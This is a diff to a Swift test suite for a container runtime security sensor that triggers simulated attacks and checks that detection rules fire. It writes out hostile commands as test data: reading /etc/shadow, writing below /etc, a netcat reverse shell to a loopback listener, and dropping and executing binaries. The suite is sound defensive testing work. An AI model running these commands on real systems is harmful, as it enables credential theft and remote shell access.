@@ -147,7 +147,8 @@ struct SensorScenarioTests {
             "\(podman) exec -t \(name) /bin/sh -c 'exit 0'",                       // shell with a terminal
             "\(exec) /bin/cat /etc/shadow",                                         // credential read
             "\(exec) /bin/sh -c 'echo x > /etc/bh-scenario'",                       // write below /etc
-            "\(exec) /bin/nc 127.0.0.1 9 -e /bin/sh || true",                       // reverse shell + outbound connection
+            "\(podman) exec -d \(name) /bin/nc -l -p 9 && sleep 1",                  // the attacker's end, in the container
+            "\(exec) /bin/nc 127.0.0.1 9 -e /bin/true || true",                     // reverse shell: connect, dup2 onto 0-2, exec
             "\(podman) exec -d \(name) /bin/nc -l -p 8080 && sleep 1",              // listener
             "\(exec) /bin/cp /bin/busybox /tmp/dropped && \(exec) /tmp/dropped true || true",   // dropped binary
             "cp /bin/true /dev/shm/\(name) && /dev/shm/\(name)",                    // execution from /dev/shm (host)
@@ -208,6 +209,10 @@ struct SensorScenarioTests {
         #expect(find("Terminal shell in container", inContainer)?.string("proc.name") == "sh")
         #expect(find("Read sensitive file untrusted", inContainer)?.string("fd.name") == "/etc/shadow")
         #expect(find("Drop and execute new binary in container", inContainer)?.string("proc.exepath") == "/tmp/dropped")
+        // The socket made stdin/stdout/stderr of the reverse shell (dup2 onto 0-2).
+        let redirect = find("Redirect STDOUT/STDIN to Network Connection in Container", inContainer)
+        #expect(redirect != nil, "\(summary)")
+        #expect(redirect?.string("fd.name")?.hasSuffix("->127.0.0.1:9") == true, "\(redirect?.fields ?? [:])")
         // The sandbox rule for writes below /etc.
         #expect(find("Write below etc") { inContainer($0) && $0.string("fd.name") == "/etc/bh-scenario" } != nil, "\(summary)")
         // Bulkhead's rules for what upstream has no stable rule for.
